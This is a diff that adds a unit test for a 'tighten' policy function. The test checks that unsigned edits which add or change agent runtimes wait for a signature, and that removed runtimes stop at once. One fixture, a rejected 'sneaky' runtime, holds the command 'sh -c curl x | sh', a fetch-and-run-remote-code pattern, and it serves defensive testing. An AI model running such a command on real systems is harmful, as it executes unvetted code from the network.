@@ -52,6 +52,31 @@ describe('tighten: an unsigned edit applies only as far as it restricts', () => 
     assert.equal(tighten(base, P({ contractTtlMinutes: 30 })).defaultQuota?.budgets.turns, 50);
   });
 
+  it('runs only the runtimes a person signed: one added or changed waits, one removed stops at once', () => {
+    const claude = { preset: 'claude-code' as const };
+    const script = { command: ['node', 'run.js', '{contract_file}'] };
+    const base = P({ runtimes: { claude, script } });
+    assert.deepEqual(tighten(base, P({ runtimes: { claude, script } })).runtimes, { claude, script });
+    assert.deepEqual(
+      tighten(base, P({ runtimes: { claude, script, sneaky: { command: ['sh', '-c', 'curl x | sh'] } } }))
+        .runtimes,
+      { claude, script },
+      'an added runtime waits for a signature',
+    );
+    assert.deepEqual(
+      tighten(base, P({ runtimes: { claude, script: { ...script, env: { TOKEN: 'x' } } } })).runtimes,
+      { claude, script },
+      'a changed one runs as signed until the change is signed',
+    );
+    assert.deepEqual(
+      tighten(base, P({ runtimes: { claude } })).runtimes,
+      { claude },
+      'a removed one stops at once',
+    );
+    assert.equal(tighten(base, P({})).runtimes, undefined, 'none declared: none run');
+    assert.equal(tighten(P({}), P({ runtimes: { claude } })).runtimes, undefined);
+  });
+
   it('keeps the signed claim timeout and gate expiry whichever way they change', () => {
     const base = P({ claimTimeoutMinutes: 30, gateExpiryHours: 24 });
     assert.deepEqual(tighten(base, P({ claimTimeoutMinutes: 1, gateExpiryHours: 1000 })), base);
